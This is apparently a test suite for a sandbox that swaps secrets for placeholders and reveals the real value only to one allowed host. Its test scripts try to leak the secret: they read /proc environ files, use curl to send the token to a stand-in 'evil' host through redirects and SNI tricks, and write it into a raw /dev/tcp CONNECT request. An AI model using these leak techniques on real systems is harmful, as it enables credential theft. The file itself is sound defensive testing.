// Secrets that a sandbox uses and does not have.
import { existsSync } from "node:fs";
import type { IncomingHttpHeaders } from "node:http";
import { createServer } from "node:https";
import * as tls from "node:tls";
import type { SandboxOptions } from "@coffer/core";
import { CofferError, openRuntime, sandbox } from "@coffer/core";
import type { ExecutionContext } from "ava";
import test from "ava";
import { makeCertificateAuthority } from "../../packages/core/src/system/node/tls/authority.ts";
import type { Box } from "../helpers/container.ts";
import { makeBox } from "../helpers/container.ts";
import { nothingLeft } from "../helpers/leftovers.ts";
import { needs } from "../helpers/needs.ts";

const value = "s3cret-value-of-mine";
const host = "api.example.test";
const evil = "evil.example.test";

interface Seen {
  readonly name: string | false;
  readonly headers: IncomingHttpHeaders;
  readonly url: string | undefined;
  readonly body: string;
}

/** A host that a public authority knows, and what it was asked. */
async function serve(t: ExecutionContext, trusted: boolean) {
  const authority = makeCertificateAuthority([host, evil]);
  if (trusted) tls.setDefaultCACertificates([...tls.getCACertificates("default"), authority.certificate]);
  const seen: Seen[] = [];
  const contexts = new Map([host, evil].map((name) => [name, tls.createSecureContext(authority.issue(name))]));
  const SNICallback = (name: string, settle: (error: Error | null, context?: tls.SecureContext) => void) =>
    settle(null, contexts.get(name));
  const server = createServer({ SNICallback, ...authority.issue(host) }, (request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      const { socket } = request;
      const name = socket instanceof tls.TLSSocket ? (socket.servername ?? false) : false;
      seen.push({ name, headers: request.headers, url: request.url, body });
      if (request.url === "/away") return response.writeHead(302, { location: `https://${evil}:${port}/x` }).end();
      response.setHeader("X-Echo", request.headers.authorization ?? "none");
      return response.end("answer\n");
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
  t.teardown(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  return { port, seen };
}

/** A sandbox in whose world every name leads to this machine. */
function run(box: Box, port: number, script: string, more: Partial<SandboxOptions> = {}) {
  const runtime = openRuntime({ root: box.state });
  const { network } = runtime.system;
  if (network === undefined) throw new Error("there is no network");
  const system = { ...runtime.system, network: { ...network, resolve: async () => ["127.0.0.1"] } };
  return sandbox({
    runtime: { ...runtime, system },
    cwd: box.path,
    tools: "none",
    args: ["bash", "-c", script],
    network: { allow: [`127.0.0.1:${port}`, `${evil}:${port}`] },
    secrets: [{ name: "TOKEN", value, host: `${host}:${port}` }],
    ...more,
  });
}

const curl = "curl -sS --max-time 20";

test.serial("the host gets the value, and the sandbox has a placeholder", async (t) => {
  if (!(await needs(t, "root", "userns"))) return;
  if (!existsSync("/usr/bin/curl")) return void t.log("skipped: there is no curl");
  const box = makeBox(t);
  const { port, seen } = await serve(t, true);
  const url = `https://${host}:${port}`;
  const script = `echo "$TOKEN"; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c ${value.slice(0, 12)}
${curl} -D - -H "Authorization: Bearer $TOKEN" ${url}/a?x=1 -H "Host: other.org" -H "X-Host: 1"
${curl} -u "me:$TOKEN" --data "body $TOKEN" ${url}/b`;
  const { stdout, stderr } = await run(box, port, script);
  const [placeholder = "", count] = stdout.split("\n");
  t.regex(placeholder, /^coffer-secret-[0-9a-f]{16}$/, stderr);
  t.is(count, "0");
  t.false(stdout.includes(value), "an answer that repeats the value has the placeholder");
  t.regex(stdout, new RegExp(`^x-echo: Bearer ${placeholder}\\r?$`, "im"));
  t.is(seen.length, 2, stderr);
  t.like(seen[0], {
    name: host,
    url: "/a?x=1",
    headers: { authorization: `Bearer ${value}`, host: `${host}:${port}` },
  });
  t.is(seen[1]?.headers.authorization, `Basic ${btoa(`me:${value}`)}`);
  t.is(seen[1]?.body, `body ${placeholder}`, "a body has no value: what it says may be stored, and read again");
  await nothingLeft(t, box, box.before);
});

test.serial("no other host gets the value: redirects, other names, other ports, plain HTTP", async (t) => {
  if (!(await needs(t, "root", "userns"))) return;
  if (!existsSync("/usr/bin/curl")) return void t.log("skipped: there is no curl");
  const box = makeBox(t);
  const { port, seen } = await serve(t, true);
  const token = '-H "Authorization: Bearer $TOKEN"';
  const script = `
${curl} -k -L --location-trusted ${token} https://${host}:${port}/away
${curl} -k ${token} https://${evil}:${port}/x
${curl} -k ${token} --connect-to ${evil}:${port}:${host}:${port} https://${evil}:${port}/sni
${curl} ${token} http://${host}:${port}/plain
${curl} -k ${token} --request-target "https://${evil}/absolute" https://${host}:${port}/
exec 3<>/dev/tcp/127.0.0.1/31280; printf 'CONNECT ${host}:${port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: %s\\r\\n\\r\\n' "$TOKEN" >&3; timeout 5 cat <&3 | wc -c
true`;
  const { stderr } = await run(box, port, script);
  const withValue = seen.filter(({ headers }) => JSON.stringify(headers).includes(value));
  t.true(seen.length >= 3, stderr);
  for (const { name, url, headers } of withValue) {
    t.is(name, host, url);
    t.is(headers.host, `${host}:${port}`);
    t.regex(url ?? "", /^\/(?:away)?$/);
  }
  t.true(withValue.some(({ url }) => url === "/away"));
  t.false(
    seen.some(({ url }) => url === "/sni"),
    "the authority does not speak for another name",
  );
});

test.serial("a host with a certificate that nobody knows gets nothing", async (t) => {
  if (!(await needs(t, "root", "userns"))) return;
  if (!existsSync("/usr/bin/curl")) return void t.log("skipped: there is no curl");
  const box = makeBox(t);
  const { port, seen } = await serve(t, false);
  const { stdout } = await run(box, port, `${curl} -D - -H "Authorization: $TOKEN" https://${host}:${port}/`);
  t.regex(stdout, /^HTTP\/1\.1 502 /m);
  t.deepEqual(seen, []);
});

test.serial("a secret is refused without its value in the message", async (t) => {
  if (!(await needs(t, "root", "userns"))) return;
  const box = makeBox(t);
  for (const secret of [
    { name: "T", value: "x y z hush hush", host },
    { name: "T", value: "hush hush", host: "*.org" },
  ]) {
    const error = await run(box, 1, "true", { secrets: [secret] }).catch((thrown: unknown) => thrown);
    if (!CofferError.is(error, "E_USAGE")) return t.fail(String(error));
    t.false(error.message.includes("hush"));
  }
});
